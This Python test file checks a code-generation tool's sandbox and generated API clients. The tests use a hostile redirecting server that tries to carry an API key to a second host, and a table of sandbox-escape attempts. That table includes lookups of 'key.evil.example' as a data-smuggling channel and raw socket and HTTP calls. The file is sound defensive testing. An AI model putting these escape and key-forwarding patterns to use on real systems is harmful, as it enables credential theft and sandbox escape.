"""A generated test in the sandbox talks to the one server that is tested: no redirect, no other name or address."""

import asyncio
import json
from collections.abc import Iterator
from typing import Any

import anthropic
import openai
import pytest
from pydantic import SecretStr

from modelscan.codegen.render import render_client, render_test
from modelscan.reference import create_reference, serve_in_thread
from modelscan.sources.http import host_port, open_client
from modelscan.types import Auth, Level, ValidationReport
from modelscan.validation.runner import validate
from modelscan.validation.sandbox import Sandbox
from modelscan.wire import protocol_named
from tests.attacks.table import Attack, attacks
from tests.validation.specs import a_spec

KEY = "sk-canary-7f3e9b2d5a1c"


@pytest.fixture(scope="module")
def sandbox() -> Iterator[Sandbox]:
    with Sandbox() as warm:
        yield warm


class Listener:
    """A server that is nobody's business; it notes who comes all the same."""

    def __init__(self) -> None:
        self.came: list[dict[str, str]] = []

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        self.came.append({name.decode(): value.decode() for name, value in scope["headers"]})
        await send({"type": "http.response.start", "status": 200, "headers": []})
        await send({"type": "http.response.body", "body": b"{}"})


class Redirecting:
    """Looks like an API to who has no key, and sends who has one elsewhere, with the request and its key."""

    def __init__(self, location: str, status: int) -> None:
        self.location, self.status = location, status
        self.keys: set[str] = set()

    async def __call__(self, scope: Any, receive: Any, send: Any) -> None:
        headers = dict(scope["headers"])
        key = headers.get(b"x-api-key", b"").decode()
        self.keys.add(key)
        status = self.status if key else 401
        body = json.dumps({"error": {"message": "an API key is needed"}}).encode()
        sent = [(b"content-type", b"application/json"), (b"location", self.location.encode())]
        await send({"type": "http.response.start", "status": status, "headers": sent})
        await send({"type": "http.response.body", "body": body})


def climbed(sandbox: Sandbox, base_url: str, **more: Any) -> ValidationReport:
    spec = a_spec(base_url=base_url, auth=Auth(header="X-Api-Key", scheme="", env=("K",)), **more)

    async def run() -> ValidationReport:
        async with open_client(allowed_private=[host_port(base_url)], timeout=5) as http:
            sources = render_client(spec, ()), render_test(spec)
            return await validate(spec, *sources, sandbox=sandbox, key=SecretStr(KEY), http=http, reach=True)

    return asyncio.run(run())


@attacks(
    Attack("to another port", 307),
    Attack("to another port, for good", 308),
    Attack("to another port, by another method", 303),
)
def test_a_redirect_takes_no_key_to_another_server(attack: Attack, sandbox: Sandbox) -> None:
    listener = Listener()
    with serve_in_thread(listener) as elsewhere:
        hostile = Redirecting(f"{elsewhere}/v1/chat/completions", attack.hostile)
        with serve_in_thread(hostile) as origin:
            report = climbed(sandbox, f"{origin}/v1", operator_host=True)
    assert KEY in hostile.keys
    assert listener.came == []
    assert report.level is Level.PROBE
    assert KEY not in report.model_dump_json()


def test_a_private_host_that_only_a_list_named_is_not_talked_to(sandbox: Sandbox) -> None:
    with serve_in_thread(
        create_reference(models=("anvil",), key=KEY, auth=Auth(header="X-Api-Key", scheme=""))
    ) as origin:
        base_url = f"{origin}/v1"
        for named, level in ((False, Level.PROBE), (True, Level.LIVE)):
            report = climbed(sandbox, base_url, operator_host=named, test_model="anvil")
            assert report.level is level, report
            assert ("no public address" in report.why_not_higher) is not named


ESCAPES = (
    Attack("a connection", "socket.create_connection(('127.0.0.1', PORT))"),
    Attack("a raw connection", "socket.socket().connect(('127.0.0.1', PORT))"),
    Attack("without an exception", "socket.socket().connect_ex(('127.0.0.1', PORT))"),
    Attack("over IPv6", "socket.socket(socket.AF_INET6).connect(('::1', PORT))"),
    Attack("over a socket of the system", "socket.socket(socket.AF_UNIX).connect('/tmp/x')"),
    Attack("a datagram", "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', PORT))"),
    Attack("a name server", "socket.getaddrinfo('key.evil.example', 443)"),
    Attack("a name by the older way", "socket.gethostbyname('key.evil.example')"),
    Attack("a server of its own", "socket.socket().bind(('127.0.0.1', 0))"),
    Attack("a library", "__import__('httpx2').get('http://127.0.0.1:PORT/')"),
    Attack("another library", "__import__('urllib.request').request.urlopen('http://127.0.0.1:PORT/')"),
)


@attacks(*ESCAPES)
def test_a_run_cannot_leave(attack: Attack, sandbox: Sandbox) -> None:
    listener = Listener()
    with serve_in_thread(listener) as origin:
        tried = attack.hostile.replace("PORT", origin.rpartition(":")[2])
        run = sandbox.run({"test_it.py": f"import socket\n\ndef test_it():\n    {tried}\n"}, {}, 20)
    assert run.outcomes["test_it"].outcome == "failed"
    assert "tested" in run.outcomes["test_it"].detail
    assert listener.came == []


@pytest.mark.parametrize("protocol", ["openai_chat", "anthropic_messages"])
@attacks(Attack("with the request", 307), Attack("with the request, for good", 308), Attack("by GET", 302))
def test_who_imports_the_client_takes_no_key_to_another_server_either(attack: Attack, protocol: str) -> None:
    listener = Listener()
    row = protocol_named(protocol)
    auth = Auth(header="X-Api-Key", scheme="", env=("K",))
    spec = a_spec(protocol=protocol, endpoints=row.endpoints, headers=row.headers, auth=auth)
    scope: dict[str, Any] = {"__name__": "acme"}
    exec(compile(render_client(spec, ()), "acme.py", "exec", dont_inherit=True), scope)
    with serve_in_thread(listener) as elsewhere:
        hostile = Redirecting(f"{elsewhere}/v1", attack.hostile)
        with (
            serve_in_thread(hostile) as origin,
            scope["Client"](KEY, base_url=origin, max_retries=0) as client,
            pytest.raises((openai.APIStatusError, anthropic.APIStatusError)),
        ):
            client.models.list()
    assert hostile.keys == {KEY}
    assert listener.came == []
